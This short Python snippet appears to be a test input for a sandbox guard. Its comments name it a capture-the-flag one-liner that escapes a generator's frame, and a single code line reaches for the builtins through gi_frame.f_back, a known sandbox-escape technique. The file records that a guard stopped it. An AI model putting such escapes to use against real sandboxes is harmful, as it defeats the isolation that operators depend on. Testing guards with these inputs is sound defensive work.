# goal: a one-liner of capture-the-flag fame: walk out of a generator's own frame
# stopped by: guard
LEAKED = [*(q := (q.gi_frame.f_back.f_back.f_builtins for _ in [1]))]
LEAKED
